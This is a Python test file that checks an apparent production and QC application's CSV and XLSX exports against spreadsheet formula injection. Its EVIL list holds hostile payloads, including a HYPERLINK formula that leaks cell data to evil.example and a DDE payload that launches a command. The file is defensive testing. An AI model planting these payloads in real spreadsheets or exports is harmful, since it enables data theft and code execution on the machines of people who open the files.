"""Every CSV/XLSX export writes formula-looking text as text (issue 14, section 1)."""

from __future__ import annotations

import csv
import io

import openpyxl

from app.core.exports import FORMULA_STARTS, csv_text, safe_cell, xlsx_row
from tests.batch_factories import actor, new_batch
from tests.conftest import login_page

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _all_cells_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula_cells(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell


def test_safe_cell_neutralises_every_formula_start_and_keeps_numbers():
    for value in EVIL:
        assert safe_cell(value) == "'" + value
    assert safe_cell(-5) == -5 and safe_cell(1.5) == 1.5 and safe_cell("ok") == "ok"
    _assert_no_formula_cells(_all_cells_csv(csv_text(EVIL, [EVIL])))


def test_xlsx_rows_are_strings_never_formulas():
    wb = openpyxl.Workbook()
    ws = wb.active
    xlsx_row(ws, EVIL)
    buf = io.BytesIO()
    wb.save(buf)
    ws2 = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    for cell in ws2[1]:
        assert cell.data_type == "s"
        assert str(cell.value).startswith("'")


def _evil_batch(app_ctx):
    from app.audit import service as audit

    batch = new_batch(note=EVIL[0])
    for value in EVIL:
        audit.record("Batch", batch.id, "NOTE", reason=value, actor=actor("Planner"))
    from app.core.extensions import db

    db.session.commit()
    return batch


def test_batch_and_audit_exports_carry_no_formulas(app_ctx, client, api):
    batch = _evil_batch(app_ctx)
    planner = api("planner")
    r = planner.get(f"/api/v1/batches/{batch.id}/events.csv")
    assert r.status_code == 200
    cells = _all_cells_csv(r.get_data(as_text=True))
    assert any(EVIL[0] in c for c in cells)
    _assert_no_formula_cells(cells)

    login_page(client, "planner")
    r = client.get(f"/batches/{batch.id}/export.csv")
    assert r.status_code == 200
    cells = _all_cells_csv(r.get_data(as_text=True))
    assert any(EVIL[0] in c for c in cells)
    _assert_no_formula_cells(cells)
    client.get("/logout/")

    login_page(client, "auditor")
    r = client.get("/audit/export.csv?entity_type=Batch")
    assert r.status_code == 200
    cells = _all_cells_csv(r.get_data(as_text=True))
    assert "'" + EVIL[1] in cells
    _assert_no_formula_cells(cells)


def test_qc_workbooks_carry_no_formulas(app_ctx, client):
    from app.qc import reports

    rows = [{k: v for k, v in zip(("product", "batch_no", "test", "criteria", "result"), EVIL, strict=False)}]
    columns = reports.REPORTS["results"][2]
    body = reports.to_xlsx("QC results", columns, rows, EVIL[3])
    ws = openpyxl.load_workbook(io.BytesIO(body)).active
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_STARTS), cell.value
    login_page(client, "qcmanager")
    for kind in reports.REPORTS:
        r = client.get(f"/qc/reports/export.xlsx?report={kind}")
        assert r.status_code == 200, (kind, r.status_code)
        ws = openpyxl.load_workbook(io.BytesIO(r.data)).active
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
